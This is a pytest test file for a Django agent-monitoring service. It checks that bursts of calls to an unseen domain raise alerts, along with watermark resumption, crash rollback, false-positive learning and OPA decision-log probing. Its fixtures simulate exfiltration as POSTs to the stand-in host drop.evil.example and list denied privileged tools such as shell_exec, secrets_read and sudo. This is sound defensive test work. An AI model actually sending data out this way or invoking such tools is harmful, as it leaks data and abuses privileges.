"""Incremental detection over records signed by agents_sdk and stored by the real audit
pipeline on PostgreSQL: the watermark, idempotence, evidence that points at the stored
records, false-positive feedback, OPA decision logs, crash safety and a single runner."""

from __future__ import annotations

import threading

import pytest
from django.db import connection

from controlplane.audit.models import AuditEvent
from controlplane.changelog.models import ObjectChange
from controlplane.detection.models import AgentBaseline, Alert, DetectionCursor
from controlplane.detection.services import alerts as alert_services
from controlplane.detection.services import scanning
from controlplane.detection.services.scanning import run_detection
from controlplane.opa.models import DecisionLog
from tests.bundles.factories import environment
from tests.detection.conftest import known_traffic

pytestmark = pytest.mark.django_db


def exfiltration(n: int, host: str = "drop.evil.example") -> list[tuple[str, dict]]:
    return [("http_request", {"url": f"https://{host}/u/{i}", "method": "POST", "body": "x" * 100}) for i in range(n)]


def test_calls_to_a_never_seen_domain_raise_an_alert_with_the_stored_records_as_evidence(signed_agent, ship):
    bot = signed_agent()
    ship(bot, bot.calls("normal", known_traffic(25)))
    assert run_detection().alerts == []
    ship(bot, bot.calls("exfil-session", exfiltration(25)))
    run = run_detection()
    alert = Alert.objects.get(detector="new_destination")
    assert run.alerts and set(run.alerts) == {alert.pk} | (set(run.alerts) - {alert.pk})
    assert alert.agent == bot.agent and alert.severity == "critical" and alert.subject == "host:drop.evil.example"
    assert alert.occurrences == 2  # medium at 3 calls, merged and raised to critical at 20
    assert alert.session_ids == ["exfil-session"]
    stored = AuditEvent.objects.filter(session_id="exfil-session", kind="intent").order_by("id")
    assert alert.record_ids == [str(e.record_id) for e in stored[:20]]
    assert alert.event_ids == [e.id for e in stored[:20]]
    assert alert.stored_at == stored[19].stored_at
    assert "20 calls" in alert.summary and "not among the 1 it used" in alert.summary
    assert ObjectChange.objects.filter(object_id=str(alert.pk), user_name="warden-detector").count() == 2


def test_detection_resumes_from_its_watermark_and_a_second_run_changes_nothing(signed_agent, ship):
    bot = signed_agent()
    ship(bot, bot.calls("normal", known_traffic(25)))
    first = run_detection()
    assert first.events == 50  # intents and decisions; results and outputs are skipped by the query
    top = AuditEvent.objects.order_by("-id").first().id
    assert DetectionCursor.objects.get(stream="audit").position == top
    assert run_detection().events == 0
    ship(bot, bot.calls("exfil", exfiltration(5)))
    assert run_detection().events == 10
    assert run_detection().events == 0
    assert Alert.objects.count() == 1
    assert AgentBaseline.objects.get(agent=bot.agent).events == 60


def test_small_chunks_give_the_same_alerts_as_one_big_chunk(signed_agent, ship, settings):
    settings.WARDEN_DETECTION_CHUNK = 7
    bot = signed_agent()
    ship(bot, bot.calls("normal", known_traffic(25)))
    ship(bot, bot.calls("exfil", exfiltration(25)))
    run_detection(max_chunks=1000)
    alert = Alert.objects.get()
    assert (alert.severity, alert.occurrences, len(alert.record_ids)) == ("critical", 2, 20)


def test_a_crash_mid_chunk_rolls_back_and_the_retry_raises_each_alert_once(signed_agent, ship, monkeypatch):
    bot = signed_agent()
    ship(bot, bot.calls("normal", known_traffic(25)))
    run_detection()
    ship(bot, bot.calls("exfil", exfiltration(5)))
    real = scanning.raise_finding

    def crash(*args, **kwargs):
        real(*args, **kwargs)
        raise RuntimeError("worker killed")

    monkeypatch.setattr(scanning, "raise_finding", crash)
    with pytest.raises(RuntimeError):
        run_detection()
    assert not Alert.objects.exists()
    monkeypatch.setattr(scanning, "raise_finding", real)
    run_detection()
    assert Alert.objects.count() == 1 and Alert.objects.get().occurrences == 1


def test_a_false_positive_verdict_teaches_the_stored_baseline(signed_agent, ship, admin_user):
    bot = signed_agent()
    ship(bot, bot.calls("normal", known_traffic(25)))
    run_detection()
    ship(bot, bot.calls("partner", exfiltration(4, host="partner.example")))
    run_detection()
    alert = Alert.objects.get()
    alert_services.mark_false_positive(alert, by=admin_user, note="our new payments partner")
    assert "host:partner.example" in AgentBaseline.objects.get(agent=bot.agent).state["destinations"]
    ship(bot, bot.calls("partner-2", exfiltration(30, host="partner.example")))
    run_detection()
    assert Alert.objects.count() == 1
    alert.refresh_from_db()
    assert (alert.state, alert.closed_by, alert.note) == ("false_positive", admin_user, "our new payments partner")


def test_a_resolved_alert_is_not_learned_and_a_new_burst_opens_a_new_alert(signed_agent, ship, admin_user):
    bot = signed_agent()
    ship(bot, bot.calls("normal", known_traffic(25)))
    run_detection()
    ship(bot, bot.calls("exfil", exfiltration(3)))
    run_detection()
    first = Alert.objects.get()
    alert_services.resolve_alert(first, by=admin_user, note="blocked at the proxy")
    ship(bot, bot.calls("exfil-2", exfiltration(25)))
    run_detection()
    second = Alert.objects.exclude(pk=first.pk).get()
    assert second.severity == "critical" and second.state == "open"
    assert "host:drop.evil.example" not in AgentBaseline.objects.get(agent=bot.agent).state["destinations"]


def test_agents_are_judged_against_their_own_baselines_only(signed_agent, ship):
    bot, other = signed_agent("invoice-bot"), signed_agent("crawler-bot")
    ship(bot, bot.calls("a", known_traffic(25)))
    ship(other, other.calls("b", known_traffic(25, host="drop.evil.example")))
    run_detection()
    ship(bot, bot.calls("c", exfiltration(5)))
    ship(other, other.calls("d", exfiltration(5)))
    run_detection()
    assert list(Alert.objects.values_list("agent__name", flat=True)) == ["invoice-bot"]


def test_decision_logs_feed_agents_that_ship_no_records(admin_user, signed_agent, settings):
    settings.WARDEN_DETECTION_DECISION_LOG_LAG = 0
    env = environment("prod", by=admin_user)
    bot = signed_agent("sidecar-bot")
    from django.utils import timezone

    def log(i, tool, effect, host="api.bank.example"):
        DecisionLog.objects.create(
            decision_id=f"dec-{i}", environment=env, path="warden/decision", timestamp=timezone.now(),
            input={"agent": {"id": "sidecar-bot"}, "action": {"tool": tool, "args": {"url": f"https://{host}/"}},
                   "context": {"session_id": "opa-session"}},
            result={"allow": effect == "allow", "effect": effect}, event={},
        )

    for i in range(25):
        log(i, "http_request", "allow")
    for i, tool in enumerate(["user_delete", "iam_grant", "shell_exec", "db_drop", "secrets_read", "sudo"]):
        log(100 + i, tool, "deny")
    # Hostile or foreign inputs are skipped, never an error.
    DecisionLog.objects.create(decision_id="junk-1", environment=env, timestamp=timezone.now(), input=["x"], event={})
    DecisionLog.objects.create(decision_id="junk-2", environment=env, timestamp=timezone.now(),
                               input={"agent": {"id": "ghost"}}, event={})
    run = run_detection()
    assert run.decisions == 33
    alert = Alert.objects.get(detector="denial_probing")
    assert alert.agent == bot.agent and alert.decision_ids[0].startswith("dec-10")
    assert AgentBaseline.objects.get(agent=bot.agent).source == "opa"
    assert run_detection().decisions == 0


def test_decision_logs_of_an_agent_that_ships_records_are_not_counted_twice(admin_user, signed_agent, ship, settings):
    settings.WARDEN_DETECTION_DECISION_LOG_LAG = 0
    from django.utils import timezone

    env = environment("prod", by=admin_user)
    bot = signed_agent()
    ship(bot, bot.calls("a", known_traffic(25)))
    for i in range(10):
        DecisionLog.objects.create(decision_id=f"d{i}", environment=env, timestamp=timezone.now(), event={},
                                   input={"agent": {"id": "invoice-bot"}, "action": {"tool": "user_delete"}},
                                   result={"effect": "deny"})
    run_detection()
    assert AgentBaseline.objects.get(agent=bot.agent).events == 50
    assert not Alert.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_a_second_runner_steps_aside_while_one_holds_the_lock(signed_agent, ship):
    held, release = threading.Event(), threading.Event()

    def hold():
        from django.db import connection as thread_connection, transaction

        with transaction.atomic():
            with thread_connection.cursor() as cursor:
                cursor.execute("SELECT pg_advisory_xact_lock(%s)", [scanning.RUNNER_LOCK])
            held.set()
            release.wait(10)
        thread_connection.close()

    holder = threading.Thread(target=hold)
    holder.start()
    try:
        assert held.wait(10)
        assert run_detection().busy is True
    finally:
        release.set()
        holder.join(10)
    assert run_detection().busy is False
    assert connection.vendor == "postgresql"
